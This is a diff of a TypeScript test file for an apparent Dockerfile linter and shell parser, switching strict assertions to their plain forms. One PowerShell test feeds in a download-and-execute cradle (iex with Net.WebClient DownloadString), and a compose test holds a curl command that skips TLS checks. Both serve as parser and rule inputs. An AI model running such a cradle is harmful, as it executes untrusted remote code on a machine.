@@ -1,4 +1,4 @@
-import { deepStrictEqual, ok, strictEqual } from 'node:assert/strict';
+import { deepEqual, equal, ok } from 'node:assert/strict';
 import fc from 'fast-check';
 import { loadStages } from '../server/src/core/model/dockerfile/stages';
 import { shellOf } from '../server/src/core/model/shell/stage';
@@ -56,13 +56,13 @@ describe('Commands of a Dockerfile', () => {
     'the JSON form': ['["sudo", "a", "b c"]', ['sudo a b c', 'sudo (root) > a b c']],
   };
   for (const [title, [line, expected]] of Object.entries(cases)) {
-    it(`are read: ${title}`, () => deepStrictEqual(run(line), expected));
+    it(`are read: ${title}`, () => deepEqual(run(line), expected));
   }
 
   it('are read in every instruction that runs something', () => {
     const text = 'FROM debian:12\nENV A=x\nARG B=y\nONBUILD RUN a $A\nHEALTHCHECK --interval=5s CMD b $B || c\nENTRYPOINT ["d"]\nCMD e\n';
-    deepStrictEqual(toldCommands(text), ['a x', 'b y', 'c', 'd', 'e']);
-    deepStrictEqual(
+    deepEqual(toldCommands(text), ['a x', 'b y', 'c', 'd', 'e']);
+    deepEqual(
       shellOf(lastStage(text)).own.map(({ keyword, onbuild, language }) => `${keyword} ${onbuild} ${language}`),
       ['RUN true sh', 'HEALTHCHECK false sh', 'ENTRYPOINT false exec', 'CMD false sh'],
     );
@@ -70,26 +70,26 @@ describe('Commands of a Dockerfile', () => {
 
   it('are read in triggers that the stage before hands on', () => {
     const stage = lastStage('FROM debian:12 AS base\nONBUILD RUN a\nFROM base\n');
-    deepStrictEqual(
+    deepEqual(
       shellOf(stage).triggered.flatMap(({ commands }) => commands.map(({ name }) => name)),
       ['a'],
     );
   });
 
   it('are read as cmd has them', () => {
-    deepStrictEqual(windows('a "b c" & d ^& e && f | g || h > x.txt 2>&1'), ['a b c', 'd & e', 'f', 'g', 'h']);
-    deepStrictEqual(windows('powershell -NoProfile -Command "a ; b \'c d\'"'), [
+    deepEqual(windows('a "b c" & d ^& e && f | g || h > x.txt 2>&1'), ['a b c', 'd & e', 'f', 'g', 'h']);
+    deepEqual(windows('powershell -NoProfile -Command "a ; b \'c d\'"'), [
       "powershell -NoProfile -Command a ; b 'c d'",
       'powershell > a',
       'powershell > b c d',
     ]);
-    deepStrictEqual(windows('C:\\Tools\\Curl.exe -o x %TEMP%'), ['curl -o x ?%TEMP%']);
+    deepEqual(windows('C:\\Tools\\Curl.exe -o x %TEMP%'), ['curl -o x ?%TEMP%']);
   });
 
   it('are read as PowerShell has them', () => {
-    deepStrictEqual(powershell('A-B \'c\' -D "e $f" ; $x = G-H | I-J'), ['a-b c -D ?e $f', 'x=G-H g-h', 'i-j']);
-    deepStrictEqual(powershell('if (a) { b } else { c `\n d }'), ['a', 'b', 'c d', 'if ?$( ) ?$( ) else ?$( )']);
-    deepStrictEqual(powershell("iex ((New-Object Net.WebClient).DownloadString('https://x'))").at(-1), 'iex ?$( )');
+    deepEqual(powershell('A-B \'c\' -D "e $f" ; $x = G-H | I-J'), ['a-b c -D ?e $f', 'x=G-H g-h', 'i-j']);
+    deepEqual(powershell('if (a) { b } else { c `\n d }'), ['a', 'b', 'c d', 'if ?$( ) ?$( ) else ?$( )']);
+    deepEqual(powershell("iex ((New-Object Net.WebClient).DownloadString('https://x'))").at(-1), 'iex ?$( )');
     ok(powershell("iex ((New-Object Net.WebClient).DownloadString('https://x'))").includes('downloadstring https://x'));
   });
 
@@ -99,7 +99,7 @@ describe('Commands of a Dockerfile', () => {
     const sites = shellOf(lastStage(text)).own.flatMap(({ commands }) =>
       commands.flatMap(({ args }) => args.map(({ value, at }) => `${value} at ${JSON.stringify(text.slice(at.start, at.end))}`)),
     );
-    deepStrictEqual(sites, [
+    deepEqual(sites, [
       'b c at "\\"b c\\""',
       'd e at "d\\\\ e"',
       'fg at "f\\\\\\r\\ng"',
@@ -115,7 +115,7 @@ describe('Commands of a Dockerfile', () => {
       'services:\n  web:\n    build:\n      dockerfile_inline: |\n        FROM debian:12\n        RUN <<EOF\n        curl -fk https://example.com/x -o x\n        EOF\n';
     const { findings } = judgeText(new Map([['compose.yaml', text]]));
     const found = findings.find(({ rule }) => rule === 'dockerfile/tls-verification');
-    strictEqual(found && text.slice(found.at.start, found.at.end), '-fk');
+    equal(found && text.slice(found.at.start, found.at.end), '-fk');
   });
 });
 
@@ -142,18 +142,18 @@ describe('The reading of shell text', () => {
       const [stage] = loadStages(tree, [], new Map(), true);
       const { own } = shellOf(stage!);
       // An open here-document takes the rest of the file.
-      if (!text.includes('<<')) strictEqual(own.at(-1)?.commands[0]?.name, 'curl');
+      if (!text.includes('<<')) equal(own.at(-1)?.commands[0]?.name, 'curl');
       ok(own.length > 0);
       for (const language of ['cmd', 'powershell'] as const) ok(parseWindowsShell(text, language).script.items.length >= 0);
     });
   }
 
   it('says what it does not understand', () => {
-    deepStrictEqual(
+    deepEqual(
       ['a && b', 'a "open', 'a $(b', 'if a; then', 'a )', `${'<<E '.repeat(400)}`].map((text) => parseShell(text).understood),
       [true, false, false, false, false, false],
     );
-    deepStrictEqual(
+    deepEqual(
       ["a 'b'", "a 'b", 'a (b'].map((text) => parseWindowsShell(text, 'powershell').understood),
       [true, false, false],
     );
